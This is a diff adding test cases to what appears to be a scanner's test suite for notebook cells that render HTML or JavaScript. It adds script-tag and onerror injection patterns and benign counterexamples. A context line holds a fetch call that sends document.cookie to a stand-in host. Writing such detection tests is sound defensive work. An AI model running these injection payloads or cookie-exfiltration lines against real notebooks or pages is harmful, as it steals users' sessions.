@@ -39,6 +39,14 @@ describe('a page or a script that a cell shows', () => {
     [`HTML("<scr" "ipt>${SENT}</scr"\n     "ipt>")`, 'HIGH'],
     [`HTML('<img src=x onerror="${SENT.replaceAll("'", '&quot;')}">')`, 'HIGH'],
     [`Javascript(f"${SENT}")`, 'HIGH'],
+    [`page = "<script>${SENT}</script>"\ndisplay(HTML(page))`, 'HIGH'],
+    [`def show():\n    page: str = ("<script>"\n        "${SENT}</script>")\n    HTML(data=page)`, 'HIGH'],
+    [`page = "<script>"\npage += f"${SENT}"\npage += "</script>"\nHTML(page)`, 'HIGH'],
+    [`HTML("<script>{}</script>".format(1))\nscript = "${SENT}"\nJavascript(script)`, 'HIGH'],
+    [`page = "<script>${SENT}</script>"\ndisplay({"text/html": page}, raw=True)`, 'HIGH'],
+    [`display({'text/html': "<script>${SENT}</script>"}, raw=True)`, 'HIGH'],
+    [`class A:\n    def _repr_html_(self):\n        return "<script>${SENT}</script>"`, 'HIGH'],
+    [`widgets.HTML(value='<img src=x onerror="${SENT.replaceAll("'", '&quot;')}">')`, 'HIGH'],
     [`%%javascript\n${SENT}`, 'HIGH'],
     [`%%html\n<script>${SENT}</script>`, 'HIGH'],
     [`Javascript("fetch('https://c.example.invalid/?' + document.cookie)")`, 'HIGH'],
@@ -48,6 +56,21 @@ describe('a page or a script that a cell shows', () => {
   ])('is judged by what it reaches: %s', async (source, severity) => {
     const found = (await told(source)).filter(({ rule }) => rule === PAGE);
     expect(found.map((each) => each.severity)).toContain(severity);
+  });
+
+  it.each([
+    `page = "<script>${SENT}</script>"\nprint(page)`,
+    `page = "<b>1</b>"\nother = "<script>${SENT}</script>"\nHTML(page)`,
+    `page = "<script>element.text(1)</script>"\nHTML(page)`,
+    `HTML(page)\npage == "<script>${SENT}</script>"`,
+    `headers = {"Accept": "text/html", "x": "<script>${SENT}</script>"}`,
+  ])('is none of what is not shown, or does nothing: %s', async (source) => {
+    expect((await told(source)).filter(({ rule }) => rule === PAGE)).toEqual([]);
+  });
+
+  it('stands where its text does', async () => {
+    const found = await told(`page = "<b>1</b>"\npage = """\n<script>\n${SENT}</script>"""\nHTML(page)`);
+    expect(found.find(({ rule }) => rule === PAGE)?.location.line).toBe(12);
   });
 
   it('is told once where something is reached for and sent', async () => {
